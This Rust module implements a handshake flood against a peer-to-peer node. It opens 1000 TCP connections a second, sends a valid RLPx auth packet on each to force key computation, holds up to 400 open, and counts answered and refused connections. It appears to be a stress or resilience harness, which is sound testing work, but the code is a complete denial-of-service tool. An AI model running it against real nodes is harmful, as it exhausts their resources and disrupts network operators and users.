//! Connections that begin a handshake, a thousand a second, and never end it.

use std::{
    collections::VecDeque,
    io::{ErrorKind, Read, Write},
    net::{SocketAddr, TcpStream},
    sync::{
        Arc,
        atomic::{AtomicBool, Ordering::Relaxed},
    },
    thread::{self, JoinHandle},
    time::{Duration, Instant},
};
use tandem_discv4::{NodeKey, PublicKey};
use tandem_rlpx::Initiator;

/// Handshakes begun in a second.
const PER_SECOND: u32 = 1000;

/// Connections that are held open, the newest.
const OPEN_MAX: usize = 400;

/// Running flood.
pub struct Flood {
    ending: Arc<AtomicBool>,
    thread: JoinHandle<Counts>,
}

/// Result of a flood.
#[derive(Debug)]
pub struct Counts {
    /// Handshakes begun.
    pub begun: usize,
    /// Handshakes that the node answered.
    pub answered: usize,
    /// Connections that the node closed without an answer.
    pub refused: usize,
    pub seconds: f64,
}

impl Flood {
    /// Floods a node with handshakes whose first packet is right, so that the node has to compute.
    pub fn start(node: SocketAddr, remote: PublicKey) -> Self {
        let ending = Arc::new(AtomicBool::new(false));
        let end = ending.clone();
        Self { ending, thread: thread::spawn(move || flood(node, remote, &end)) }
    }

    /// Ends the flood.
    pub fn end(self) -> Counts {
        self.ending.store(true, Relaxed);
        self.thread.join().unwrap()
    }
}

fn flood(node: SocketAddr, remote: PublicKey, ending: &AtomicBool) -> Counts {
    let key = NodeKey::from_bytes([0x3f; 32]).unwrap();
    // One packet serves for all: making it costs as much as reading it.
    let initiator = Initiator::start(&key, remote, &mut rand::rng()).unwrap();
    let mut counts = Counts { begun: 0, answered: 0, refused: 0, seconds: 0.0 };
    let (begin, mut open) = (Instant::now(), VecDeque::new());
    while !ending.load(Relaxed) {
        let due = begin.elapsed().as_secs_f64() * f64::from(PER_SECOND);
        if counts.begun as f64 >= due {
            thread::sleep(Duration::from_millis(1));
            continue;
        }
        let mut socket = TcpStream::connect(node).unwrap();
        counts.begun += 1;
        // The node may have closed already.
        let _ = socket.write_all(initiator.auth());
        open.push_back(socket);
        if open.len() > OPEN_MAX {
            counts.close(open.pop_front().unwrap());
        }
    }
    counts.seconds = begin.elapsed().as_secs_f64();
    open.into_iter().for_each(|socket| counts.close(socket));
    counts
}

impl Counts {
    fn close(&mut self, mut socket: TcpStream) {
        socket.set_nonblocking(true).unwrap();
        match socket.read(&mut [0; 1]) {
            Ok(1) => self.answered += 1,
            // Not answered yet.
            Err(error) if error.kind() == ErrorKind::WouldBlock => {}
            _ => self.refused += 1,
        }
    }
}
